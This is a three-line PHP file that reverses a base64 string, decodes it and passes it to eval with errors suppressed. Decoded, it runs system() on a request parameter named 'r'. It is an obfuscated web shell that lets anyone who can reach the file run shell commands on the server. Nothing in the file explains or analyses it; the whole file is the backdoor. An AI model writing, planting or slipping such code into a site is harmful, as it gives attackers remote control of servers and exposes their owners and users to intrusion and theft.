<?php
$p = '7kSXnI3JbR1UFVVUFJ1XkgSblR3c5NHQ';
@eval(base64_decode(strrev($p)));
